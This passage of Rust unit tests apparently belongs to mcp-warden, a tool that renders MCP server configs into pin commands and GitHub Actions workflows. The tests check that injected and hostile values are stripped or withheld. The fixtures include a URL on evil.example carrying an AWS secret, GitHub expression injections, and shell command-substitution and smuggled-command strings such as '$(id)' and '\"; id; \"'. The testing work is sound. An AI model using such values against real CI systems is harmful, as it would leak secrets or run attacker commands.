            remote("https://evil.example/mcp?q=${{ secrets.AWS_SECRET_ACCESS_KEY }}"),
            stdio(
                "npx",
                &["-y", "pkg@1.0.0", "${{ github.event.head_commit.message }}"],
            ),
            stdio("npx", &["-y", "pkg@1.0.0", "x${{github.token}}"]),
            stdio("${{ secrets.X }}", &[]),
            stdio(
                "node",
                &[
                    "s.js",
                    "$(id>P)",
                    "`id`",
                    "a'b",
                    "${HOME}",
                    "#x",
                    "\"; id; \"",
                ],
            ),
            remote("https://h.example/mcp?a=1&b=$(id)"),
        ];
        let mut servers = Vec::new();
        for (i, spec) in specs.iter().enumerate() {
            let mut s = server(&format!("s{i}"), Coverage::None);
            s.spec = spec.clone();
            servers.push(s);
        }
        let mut r = report(servers);
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        let snippet = &text[text.find("# .github/workflows/").unwrap_or(0)..];
        assert!(!snippet.contains("${{"), "{snippet}");
        let wf = workflow(&text);
        let steps = wf["jobs"]["mcp-check"]["steps"]
            .as_vec()
            .unwrap_or_else(|| panic!("steps"));
        // The four servers with an expression get a comment, not a step.
        let names: Vec<&str> = steps[2..]
            .iter()
            .filter_map(|s| s["name"].as_str())
            .collect();
        assert_eq!(names, ["Check s4.warden.lock", "Check s5.warden.lock"]);
        assert_eq!(snippet.matches("# No step for ").count(), 4, "{snippet}");
        for step in &steps[2..] {
            let run = step["run"].as_str().unwrap_or_default();
            // Only our own words, bare config words and env references in the script.
            for word in run.split_whitespace() {
                assert!(
                    is_bare(word) || word.starts_with("\"$MCP_WARDEN_"),
                    "{word:?} in {run:?}"
                );
            }
        }
        let s4 = r.servers[4].lock_name.clone().unwrap_or_default();
        assert_eq!(
            command_of(&steps[2]),
            check_command(&r.servers[4].spec, &s4)
        );
    }

    #[test]
    fn ci_snippet_notes_redactions() {
        let mut s = server("s", Coverage::None);
        s.spec = stdio("node", &["x", "--token", GHP_ENG]);
        let mut r = report(vec![s]);
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        assert!(
            text.contains("# Replace each <REDACTED> placeholder"),
            "{text}"
        );
        let wf = workflow(&text);
        assert_eq!(
            wf["jobs"]["mcp-check"]["steps"].as_vec().map(Vec::len),
            Some(3)
        );
        assert!(!text.contains(GHP_ENG));
    }

    #[test]
    fn rule_help_and_fix_texts_use_the_one_approver_placeholder() {
        let mut seen = 0;
        for rule in crate::rules::RULES {
            for text in [rule.help, rule.short] {
                let mut rest = text;
                while let Some(at) = rest.find("--approver") {
                    rest = &rest[at + "--approver".len()..];
                    let word = rest
                        .trim_start_matches([' ', '='])
                        .split(|c: char| c.is_whitespace() || c == ')')
                        .next()
                        .unwrap_or_default();
                    assert_eq!(word, APPROVER_PLACEHOLDER, "{:?}: {text}", rule.id);
                    seen += 1;
                }
            }
        }
        // Today no rule text names one; a future one must use the placeholder.
        let _ = seen;
        assert_eq!(
            rotate_command("x.warden.lock"),
            format!("mcp-warden lock rotate x.warden.lock --approver {APPROVER_PLACEHOLDER}")
        );
    }

    #[test]
    fn one_launch_in_many_projects_is_one_line_and_one_step_below_its_targets() {
        let mut servers = Vec::new();
        for i in 0..9 {
            let mut s = server("memory", Coverage::None);
            s.target = format!("~/.claude.json#projects[/p{i}]#memory").into();
            s.spec = stdio("npx", &["-y", "pkg@1.2.3"])
                .with_env(vec![("API_TOKEN".into(), format!("secret-{i}"))]);
            servers.push(s);
        }
        let mut r = report(servers);
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        assert_eq!(text.matches("mcp-warden pin ").count(), 1, "{text}");
        assert!(
            text.starts_with("Next steps — 9 servers have no warden.lock; 1 launch among them."),
            "{text}"
        );
        let lines: Vec<&str> = text.lines().collect();
        for i in 0..9 {
            assert_eq!(
                lines[1 + i],
                format!("  # '~/.claude.json#projects[/p{i}]#memory'")
            );
        }
        assert_eq!(
            lines[10],
            "  mcp-warden pin npx -y pkg@1.2.3 --env API_TOKEN --approve --approver you@example.com --lock memory.warden.lock"
        );
        let wf = workflow(&text);
        let steps = wf["jobs"]["mcp-check"]["steps"]
            .as_vec()
            .cloned()
            .unwrap_or_default();
        assert_eq!(steps.len(), 3, "{text}");
        assert_eq!(
            steps[2]["env"]["API_TOKEN"].as_str(),
            Some("${{ secrets.API_TOKEN }}")
        );
        assert!(!text.contains("secret-"), "{text}");
    }

    #[test]
    fn env_names_pass_as_plain_words_and_hostile_ones_never_print() {
        let mut s = server("s", Coverage::None);
        s.spec = stdio("node", &["x.js"]).with_env(
            [
                "GITHUB_TOKEN",
                "on",
                "$(touch P)",
                "A;B",
                "--lock",
                "${{ secrets.X }}",
                "A\nB",
            ]
            .iter()
            .map(|k| (k.to_string(), "v".to_string()))
            .collect(),
        );
        let mut r = report(vec![s]);
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        assert!(
            text.contains("  mcp-warden pin node x.js --env GITHUB_TOKEN --env on --approve"),
            "{text}"
        );
        for hostile in ["touch", "A;B", "--env --lock", "secrets.X", "A\nB"] {
            assert!(!text.contains(hostile), "{hostile}: {text}");
        }
        assert!(
            text.contains("  # '5 env or header names are not plain names"),
            "{text}"
        );
        let wf = workflow(&text);
        let step = &wf["jobs"]["mcp-check"]["steps"][2];
        assert_eq!(
            step["env"]["GITHUB_TOKEN"].as_str(),
            Some("${{ secrets.MCP_GITHUB_TOKEN }}")
        );
        // `on` is quoted, so YAML reads it as the string key it is.
        assert_eq!(step["env"]["on"].as_str(), Some("${{ secrets.on }}"));
        assert_eq!(
            step["run"].as_str().map(str::trim_end),
            Some("mcp-warden check --lock s.warden.lock --env GITHUB_TOKEN --env on node x.js")
        );
    }

    #[test]
    fn headers_reach_ci_through_env_with_their_variables_from_secrets() {
        let mut s = server("api", Coverage::None);
        s.spec = remote("https://h.example.com/mcp").with_headers(vec![
            ("X-Api-Key".into(), "${env:FM_KEY}".into()),
            ("Authorization".into(), format!("Bearer {GHP_ENG}")),
        ]);
        s.spec.origin.readers = crate::reading::Readers::of(&[crate::reading::Reader::VsCode]);
        let mut r = report(vec![s]);
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        assert!(!text.contains(GHP_ENG), "{text}");
        assert!(
            text.contains("  mcp-warden pin --url https://h.example.com/mcp --header 'X-Api-Key: ${FM_KEY}' --header 'Authorization: ${MCP_HEADER_AUTHORIZATION}' --approve"),
            "{text}"
        );
        assert!(text.contains(WITHHELD_HEADER_NOTE), "{text}");
        let wf = workflow(&text);
        let step = &wf["jobs"]["mcp-check"]["steps"][2];
        assert_eq!(
            step["env"]["FM_KEY"].as_str(),
            Some("${{ secrets.FM_KEY }}")
        );
        assert_eq!(
            step["env"]["MCP_HEADER_AUTHORIZATION"].as_str(),
            Some("${{ secrets.MCP_HEADER_AUTHORIZATION }}")
        );
        assert_eq!(
            step["env"]["MCP_WARDEN_HEADER_0"].as_str(),
            Some("X-Api-Key: ${FM_KEY}")
        );
        assert_eq!(
            command_of(step),
            check_command(&r.servers[0].spec, "api.warden.lock")
        );
    }
}
